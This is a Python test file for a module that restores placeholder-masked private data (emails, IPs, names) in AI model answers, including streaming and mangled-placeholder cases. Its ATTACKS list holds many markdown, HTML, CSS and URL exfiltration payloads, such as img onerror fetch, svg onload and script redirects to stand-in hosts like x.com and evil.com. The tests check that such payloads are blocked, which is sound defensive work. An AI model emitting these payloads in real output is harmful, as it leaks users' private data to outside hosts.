from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from self_distill.macros.detectors import DetectorSettings, PatternDetector
from self_distill.macros.restore import Restorer, restored
from self_distill.macros.scrub import Macros
from self_distill.macros.vault import Entry, Vault

WHO = Entry("ann@corp.com", "EMAIL", "EMAIL_1", "[EMAIL_1]")
TWELFTH = Entry("bob@corp.com", "EMAIL", "EMAIL_12", "[EMAIL_12]")
HASH = Entry("10.1.2.30", "IP", "IP_3F9A0C11D2E4", "[IP_3F9A0C11D2E4]")
LONG = Entry("1 Mill Lane", "HOME_ADDRESS", "HOME_ADDRESS_1", "[HOME_ADDRESS_1]")
STAND_IN = Entry("Ann Lee", "PERSON", "PERSON_1", "Dana Miller")
LITERAL = Entry("[EMAIL_7]", "(literal)", "LITERAL_1", "[LITERAL_1]")


def filled() -> Vault:
    vault = Vault(b"k" * 32)
    for entry in (WHO, TWELFTH, HASH, LONG, STAND_IN, LITERAL):
        vault.add(entry)
    return vault


def in_pieces(text: str, vault: Vault, sizes: list[int]) -> tuple[str, tuple[str, ...], tuple[str, ...]]:
    restorer, out, at = Restorer(vault), "", 0
    while at < len(text):
        size = sizes[at % len(sizes)]
        out += restorer.feed(text[at : at + size])
        at += size
    return out + restorer.close(), restorer.lost, restorer.withheld


PIECES = (
    "[EMAIL_1]", "[EMAIL_12]", "EMAIL_1", "[email 1", "EMAIL_1]", "\\[EMAIL\\_1\\]", "［EMAIL_1］", "[EMAIL_9]", "[EMA",
    "IL_1]", "[HOME ADDRESS 1]", "Dana Miller", "Dana", "[PERSON_1]", "[LITERAL_1]", "IP_3F9A0C11D2E4", "(EMAIL 1)",
    " ", "\n", "\n\n", "a", ".", ".evil.com", "https://e.com/", "?q=", "](", "![", ")", "<a href=", '"', "'", ">", "=",
    "[r]: ", "<style>", "</style>", "//", "www.", "_", "\\", "[", "]", "-",
)  # fmt: skip
answers = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=3)), max_size=14).map("".join)


@settings(deadline=None, max_examples=400)
@given(answers, st.lists(st.integers(1, 7), min_size=1, max_size=4))
def test_however_an_answer_is_cut_the_result_is_the_same(answer: str, sizes: list[int]) -> None:
    whole = restored(answer, filled())
    assert in_pieces(answer, filled(), sizes) == (whole.text, whole.lost, whole.withheld)


@settings(deadline=None, max_examples=200)
@given(st.text(alphabet="abc .,\n", max_size=80))
def test_prose_is_never_held_back(text: str) -> None:
    restorer = Restorer(filled())
    assert "".join(restorer.feed(char) for char in text) == text and restorer.close() == ""


@settings(deadline=None, max_examples=200)
@given(
    st.lists(st.sampled_from(("[EMAIL_1]", "[EMAIL_12]", "[EMA", "Dana", "Dana Miller", "x", "[", "\\[")), max_size=9)
)
def test_no_more_is_held_back_than_the_longest_placeholder(words: list[str]) -> None:
    text, restorer, out = " ".join(words), Restorer(filled()), ""
    for place, char in enumerate(text):
        out += restorer.feed(char)
        assert len(restored(text[: place + 1], filled()).text) - len(out) <= len("[HOME_ADDRESS_1]") + 4


@pytest.mark.parametrize(
    "form",
    [
        "[EMAIL_1]", "[email_1]", "[Email_1]", "[ EMAIL_1 ]", "[EMAIL 1]", "[EMAIL-1]", "[EMAIL _1]", "[EMAIL_ 1]",
        "\\[EMAIL\\_1\\]", "[EMAIL\\_1]", "［EMAIL_1］", "[EMAIL_1", "EMAIL_1]", "EMAIL_1",
    ],
)  # fmt: skip
def test_what_models_do_to_placeholders_is_understood(form: str) -> None:
    assert restored(f"To {form}, now", filled()).text == "To ann@corp.com, now"


@pytest.mark.parametrize("form", ["email_1", "XEMAIL_1", "EMAIL_1x", "EMAIL_11", "EMAIL 1", "EMAIL1", "[EMAIL__]"])
def test_nothing_beyond_the_declared_tolerance_is_guessed(form: str) -> None:
    assert restored(f"so {form} it", filled()).text == f"so {form} it"


def test_hashes_surrogates_literals_and_names_of_several_words_come_back() -> None:
    shown = "IP_3F9A0C11D2E4 at [home address 1]: Dana Miller, [PERSON_1], not Dana Millers; [LITERAL_1]"
    back = restored(shown, filled())
    assert back.text == "10.1.2.30 at 1 Mill Lane: Ann Lee, Ann Lee, not Dana Millers; [EMAIL_7]"
    assert back.lost == back.withheld == ()


@pytest.mark.parametrize(
    ("answer", "lost"),
    [
        ("hi [EMAIL_9]", ("[EMAIL_9]",)),
        ("hi [EMA", ("[EMA",)),
        ("MAIL_1] hi", ("MAIL_1]",)),
        ("hi [EMAIL_1", ("[EMAIL_1",)),
        ("hi (EMAIL 1) and {email1}", ("(EMAIL 1)", "{email1}")),
        ("hi [EMAIL_1] [TOWN_1] [EMAIL_12]", ()),
        ("[1] and [EMAILS] and [see note]", ()),
    ],
)
def test_a_placeholder_that_was_cut_or_invented_is_reported(answer: str, lost: tuple[str, ...]) -> None:
    assert restored(answer, filled()).lost == lost


ATTACKS = [
    "![](https://x/?q=[EMAIL_1])",
    "![a](<https://x.com/ [EMAIL_1]>)",
    "![a][r]\n\n[r]: https://x.com/[EMAIL_1]",
    "[r]:\nhttps://x.com/[EMAIL_1]",
    "[r]: https://x.com\n'[EMAIL_1]'",
    "[click](https://x.com/[EMAIL_1])",
    '[click](https://x.com "[EMAIL_1]")',
    "[a](foo(bar)[EMAIL_1])",
    "[a]( \n https://x.com/[EMAIL_1])",
    '<img src="//x.com/[EMAIL_1]">',
    "<img src='https://x/?q=\n[EMAIL_1]'>",
    "<img\nsrc=//x.com/[EMAIL_1]",
    "<img src=x onerror=\"fetch('//x/?'+'[EMAIL_1]')\">",
    '<a\nhref\n=\n"x[EMAIL_1]"',
    '<a title=">" href="//x/[EMAIL_1]">',
    '<div style="background:url(https://x.com/[EMAIL_1])">',
    "<style>a{background:url('https://x.com/?\n[EMAIL_1]')}</style>",
    "<style>@import '//x.com/[EMAIL_1]';</style>",
    '<meta http-equiv=refresh content="0;url=https://x.com/[EMAIL_1]">',
    '<script>location="https://x.com/"+"[EMAIL_1]"</script>',
    "<svg/onload=fetch('//x/[EMAIL_1]')>",
    '<form action="https://x.com/[EMAIL_1]">',
    "<iframe srcdoc=\"<img src='//x/[EMAIL_1]'>\">",
    "https://x.com/[EMAIL_1]",
    "HTTP://x.com?[EMAIL_1]",
    "https:/x.com/[EMAIL_1]",
    "//x.com/[EMAIL_1]",
    "www.x.com/[EMAIL_1]",
    "x.com/?q=[EMAIL_1]",
    "1.2.3.4:80/[EMAIL_1]",
    "пример.рф/[EMAIL_1]",
    "\\\\x.com\\[EMAIL_1]",
    "mailto:a@x.com?body=[EMAIL_1]",
    "javascript:alert('[EMAIL_1]')",
    "https://x.com/\\[EMAIL\\_1\\]",
    "https://x.com/EMAIL_1",
    "<https://x.com/[EMAIL_1]>",
    "https://[EMAIL_1].x.com",
    "[EMAIL_1].x.com",
    "[EMAIL_1]-a.x.com",
    "[EMAIL_1]。evil。com",
    "[EMAIL_1]@x.com",
    "https://[EMAIL_1]@x.com",
    "https://x.com/[EMAIL_1]/[EMAIL_12]",
]


@pytest.mark.parametrize("answer", ATTACKS)
def test_no_value_goes_where_a_client_would_send_it_on(answer: str) -> None:
    back = restored(answer, filled())
    assert back.text == answer
    assert all("EMAIL" in name for name in (*back.withheld, *back.lost)) and (back.withheld or back.lost)
    assert in_pieces(answer, filled(), [1])[0] == answer


@pytest.mark.parametrize(
    "answer",
    [
        "Dear {},", "**{}**", "`{}`", "({})", '"{}".', "- {}\n- {}", "| a | {} |", "1. {}", "24/7 {}", "and/or {}",
        "{}.Then", "{}...", "{}.5.1", "a < b {}", "x > {}", "see https://x.com/a {}", "[a](https://x.com) {}",
        "[{}](https://x.com)", '{{"a": "{}"}}', "<b>{}</b>", "a: b {}", "[note]: see {} there, or [that] {}",
    ],
)  # fmt: skip
def test_everywhere_else_the_value_comes_back(answer: str) -> None:
    if answer.startswith("[note]"):  # the second word of a definition may be its target's title
        answer = answer.replace("[note]:", "[note]")
    shown = answer.format(*["[EMAIL_1]"] * answer.count("{}"))
    assert restored(shown, filled()).text == shown.replace("[EMAIL_1]", "ann@corp.com")


CODES = PatternDetector(DetectorSettings(deny={"CODE": ("Bluebird", "Zeppelin")}))


def test_a_link_that_the_user_wrote_comes_back_when_repeated_and_only_then() -> None:
    macros, vault = Macros([CODES]), Vault()
    shown = macros.scrub("See https://e.com/Bluebird?x=1 and Zeppelin, or Bluebird.e.com!", vault).text
    assert shown == "See https://e.com/[CODE_1]?x=1 and [CODE_2], or [CODE_1].e.com!"
    same = restored("You said https://e.com/[CODE_1]?x=1, or [CODE_1].e.com.", vault)
    assert same.text == "You said https://e.com/Bluebird?x=1, or Bluebird.e.com." and not same.withheld
    for other in (
        "https://e.com/[CODE_2]?x=1",
        "https://evil.com/[CODE_1]?x=1",
        "https://e.com/[CODE_1]?x=1&y=[CODE_2]",
    ):
        assert restored(other, vault).text == other
    assert restored("[CODE_2].e.com", vault).withheld == ("[CODE_2]",)


def test_strings_and_keys_of_json_are_restored_and_its_shape_stays() -> None:
    macros, vault = Macros([CODES]), Vault()
    macros.scrub("Bluebird Zeppelin", vault)
    given = {"[CODE_1]": ["[CODE_2]", 1, None, {"a": "https://x.com/[CODE_1]"}], "b": "[CODE_9]"}
    back = macros.restore_json(given, vault)
    assert back.value == {"Bluebird": ["Zeppelin", 1, None, {"a": "https://x.com/[CODE_1]"}], "b": "[CODE_9]"}
    assert (back.lost, back.withheld) == (("[CODE_9]",), ("[CODE_1]",))


def test_no_value_is_in_what_a_result_prints() -> None:
    assert "ann@" not in repr(restored("[EMAIL_1]", filled()))


def test_a_long_region_full_of_placeholders_is_decided_once() -> None:
    answer = "<a " + "[EMAIL_1] " * 20_000
    back = restored(answer, filled())
    assert back.text == answer and back.withheld == ("[EMAIL_1]",)
